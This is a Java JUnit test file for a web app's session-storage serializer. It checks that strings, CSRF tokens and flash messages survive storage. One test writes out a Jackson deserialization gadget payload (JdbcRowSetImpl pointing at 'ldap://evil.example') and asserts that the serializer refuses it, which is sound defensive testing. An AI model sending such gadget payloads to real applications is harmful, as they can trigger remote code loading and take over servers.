package rollcall.account;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.ObjectOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.Test;
import org.springframework.core.convert.ConversionService;
import org.springframework.security.web.csrf.DefaultCsrfToken;
import org.springframework.web.servlet.FlashMap;
import org.springframework.web.servlet.mvc.support.RedirectAttributesModelMap;
import rollcall.web.Flash;

class SessionStorageTest {

    private final ConversionService conversion = new SessionStorage().springSessionConversionService();

    private byte[] stored(Object value) {
        return conversion.convert(value, byte[].class);
    }

    private Object read(byte[] bytes) {
        return conversion.convert(bytes, Object.class);
    }

    @Test
    void textStaysText() {
        assertThat(new String(stored("account:1"), StandardCharsets.UTF_8)).isEqualTo("\"account:1\"");
        assertThat(read(stored("account:1"))).isEqualTo("account:1");
    }

    @Test
    void theTokenAgainstForgedFormsComesBack() {
        var token = new DefaultCsrfToken("X-CSRF-TOKEN", "_csrf", "abc");
        assertThat(read(stored(token))).usingRecursiveComparison().isEqualTo(token);
    }

    @Test
    void whatARedirectHandsOnComesBack() {
        var attributes = new RedirectAttributesModelMap();
        Flash.success(attributes, "account.sessions.ended", "Ada", 3L, 7);
        var flash = new FlashMap();
        flash.putAll(attributes.getFlashAttributes());
        flash.put("link", "/setup/abc");
        var read = (CopyOnWriteArrayList<?>) read(stored(new CopyOnWriteArrayList<>(new FlashMap[] {flash})));
        var back = (FlashMap) read.getFirst();
        assertThat(back.get("link")).isEqualTo("/setup/abc");
        var line = (Flash) back.get("flash");
        assertThat(line.message()).isEqualTo("account.sessions.ended");
        assertThat(line.arguments()).containsExactly("Ada", 3L, 7);
    }

    @Test
    void nothingElseIsReadWhateverTheRowSays() throws Exception {
        var gadget = "{\"@class\":\"javax.sql.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://evil.example\"}";
        assertThat(read(gadget.getBytes(StandardCharsets.UTF_8))).isNull();
        var java = new ByteArrayOutputStream();
        new ObjectOutputStream(java).writeObject("account:1");
        assertThat(read(java.toByteArray())).isNull();
    }
}
